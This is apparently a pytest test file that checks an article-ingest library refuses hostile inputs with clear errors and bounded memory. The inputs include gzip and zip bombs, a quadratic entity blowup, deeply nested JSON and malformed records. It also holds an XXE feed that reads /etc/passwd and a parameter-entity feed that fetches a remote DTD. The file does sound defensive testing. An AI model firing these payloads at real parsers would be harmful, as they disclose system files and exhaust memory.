"""Hostile inputs to the ingest readers are refused with one clear error each, quickly, without filling memory.

(Plain binary files, the size limit, malformed JSON lines and the billion-laughs feed are covered in
``tests/ingest``; these are the compressed, nested, external-entity and wrong-type cases.)
"""

from __future__ import annotations

import gzip
import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from backchannel.errors import InputError
from backchannel.ingest import ReadSettings, read_inputs
from backchannel.records import Article

NEWS = "Hamas political leader Ismail Haniyeh met China's ambassador to Qatar in Doha on Thursday.\n"


def _gzip_bomb() -> bytes:
    return gzip.compress(b"\0" * 50_000_000, compresslevel=9)  # ~50 KB that inflate to 50 MB


def _zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.txt", b"\0" * 50_000_000)
    return buffer.getvalue()


def _gzipped_corpus() -> bytes:
    lines = (json.dumps({"id": f"d{i}", "text": NEWS}) for i in range(5000))
    return gzip.compress("\n".join(lines).encode("utf-8"))


@pytest.mark.parametrize("name", ["corpus.jsonl", "page.html", "feed.xml", "story.txt", "records.json", "noext"])
@pytest.mark.parametrize(
    ("payload", "what"), [(_gzip_bomb(), "gzip"), (_zip_bomb(), "zip"), (_gzipped_corpus(), "gzip")]
)
def test_compressed_inputs_are_refused_as_binary_without_decompressing(
    tmp_path: Path, name: str, payload: bytes, what: str, allocation_peak: Callable[[Callable[[], object]], int]
) -> None:
    path = tmp_path / name
    path.write_bytes(payload)
    items: list[Article | InputError] = []
    peak = allocation_peak(lambda: items.extend(read_inputs([str(path)])))
    # the bombs inflate to 50 MB: reading the compressed bytes once is all the memory a refusal needs
    assert peak < 2 * len(payload) + 1_000_000, f"{peak} bytes allocated for a {len(payload)}-byte file"
    assert len(items) == 1, items[:3]  # one error for the file, not one per "line" of compressed bytes
    error = items[0]
    assert isinstance(error, InputError) and error.origin == str(path)
    assert what in error.problem.lower() and "binary" in error.problem


XXE = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>t</title><item><title>x</title>
<description>&xxe;</description></item></channel></rss>"""
QUADRATIC = (
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "'
    + "A" * 50_000
    + '">]><rss version="2.0"><channel><item><description>'
    + "&a;" * 5000
    + "</description></item></channel></rss>"
)
PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://example.invalid/evil.dtd" [
 <!ENTITY % remote SYSTEM "http://example.invalid/x"> %remote; ]>
<rss version="2.0"><channel><item><description>text</description></item></channel></rss>"""


@pytest.mark.parametrize("feed", [XXE, QUADRATIC, PARAMETER], ids=["external-entity", "quadratic-blowup", "param"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_feeds_declaring_entities_are_refused(
    tmp_path: Path, feed: str, encoding: str, allocation_peak: Callable[[Callable[[], object]], int]
) -> None:
    path = tmp_path / "feed.rss"
    path.write_bytes(feed.encode(encoding))
    items: list[Article | InputError] = []
    peak = allocation_peak(lambda: items.extend(read_inputs([str(path)])))
    # expanded, the quadratic feed is 250 million characters; refused, a few copies of its 70 KB
    assert peak < 20 * len(feed) + 1_000_000, f"{peak} bytes allocated: the entities were expanded"
    assert len(items) == 1 and isinstance(items[0], InputError), items
    assert "entity" in items[0].problem and "passwd" not in items[0].problem


@pytest.mark.parametrize(
    ("record", "field"),
    [
        ({"id": 1.5, "text": NEWS}, "'id'"),
        ({"id": {"x": 1}, "text": NEWS}, "'id'"),
        ({"id": True, "text": NEWS}, "'id'"),
        ({"id": "a", "text": NEWS, "date": ["2024-03-01"]}, "'date'"),
        ({"id": "a", "text": NEWS, "date": False}, "'date'"),
        ({"id": "a", "body": {"text": NEWS}}, "'body'"),
        ({"id": "a", "text": NEWS, "url": 7}, "'url'"),
        ({"id": "a", "text": NEWS, "source": ["AP"]}, "'source'"),
    ],
)
def test_json_lines_with_wrong_types_name_the_line_and_field(
    tmp_path: Path, record: dict[str, object], field: str
) -> None:
    path = tmp_path / "batch.jsonl"
    good = {"id": "ok", "text": NEWS}
    path.write_text("\n".join(json.dumps(r) for r in (good, record, good | {"id": "ok2"})) + "\n", encoding="utf-8")
    items = list(read_inputs([str(path)]))
    assert [getattr(i, "doc_id", None) for i in items] == ["ok", None, "ok2"]
    error = items[1]
    assert isinstance(error, InputError) and error.origin == f"{path}:2" and field in error.problem


def test_deeply_nested_json_is_malformed_not_a_crash(tmp_path: Path) -> None:
    deep = "[" * 200_000 + "]" * 200_000
    (tmp_path / "deep.json").write_text(deep, encoding="utf-8")
    (tmp_path / "deep.jsonl").write_text('{"text": ' + deep + "}\n", encoding="utf-8")
    items = list(read_inputs([str(tmp_path / "deep.json"), str(tmp_path / "deep.jsonl")]))
    assert [type(i) for i in items] == [InputError, InputError]
    assert all("nested too deeply" in i.problem for i in items if isinstance(i, InputError))


@pytest.mark.parametrize(
    "html",
    [
        "<html><head><script>var a = 'Hamas met Qatar in Doha on Thursday to discuss talks';</script></head></html>",
        "<html><body><style>p { color: red } .x::after { content: 'lots of words in a stylesheet here' }</style>"
        "</body></html>",
        "<html><body>" + "<div>" * 5000 + "</div>" * 5000 + "</body></html>",
        "<!-- " + "a comment that never ends " * 200,
    ],
    ids=["script-only", "style-only", "deep-divs", "open-comment"],
)
def test_html_without_article_text_is_refused(tmp_path: Path, html: str) -> None:
    path = tmp_path / "page.html"
    path.write_text(html, encoding="utf-8")
    items = list(read_inputs([str(path)]))
    assert len(items) == 1 and isinstance(items[0], InputError), items
    assert "no article text" in items[0].problem or "cannot be parsed" in items[0].problem


def test_a_huge_file_is_refused_by_the_configured_limit_before_reading(
    tmp_path: Path, allocation_peak: Callable[[Callable[[], object]], int]
) -> None:
    path = tmp_path / "huge.html"
    with path.open("wb") as handle:
        handle.truncate(3_000_000_000)  # sparse: never read
    items: list[Article | InputError] = []
    peak = allocation_peak(
        lambda: items.extend(read_inputs([str(path), str(path)], settings=ReadSettings(max_bytes=1_000_000)))
    )
    assert peak < 1_000_000, f"{peak} bytes allocated: the file was read"
    assert len(items) == 2 and all(isinstance(i, InputError) and "limit of 1000000" in i.problem for i in items)


def test_good_records_around_hostile_ones_still_come_through(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text(NEWS, encoding="utf-8")
    (tmp_path / "b.jsonl").write_bytes(_gzip_bomb())
    (tmp_path / "c.rss").write_text(XXE, encoding="utf-8")
    (tmp_path / "d.txt").write_text(NEWS * 2, encoding="utf-8")
    items = list(read_inputs([str(tmp_path)]))
    assert [type(i).__name__ for i in items] == ["Article", "InputError", "InputError", "Article"]
    assert all(isinstance(i, Article) and i.text.startswith("Hamas") for i in (items[0], items[3]))
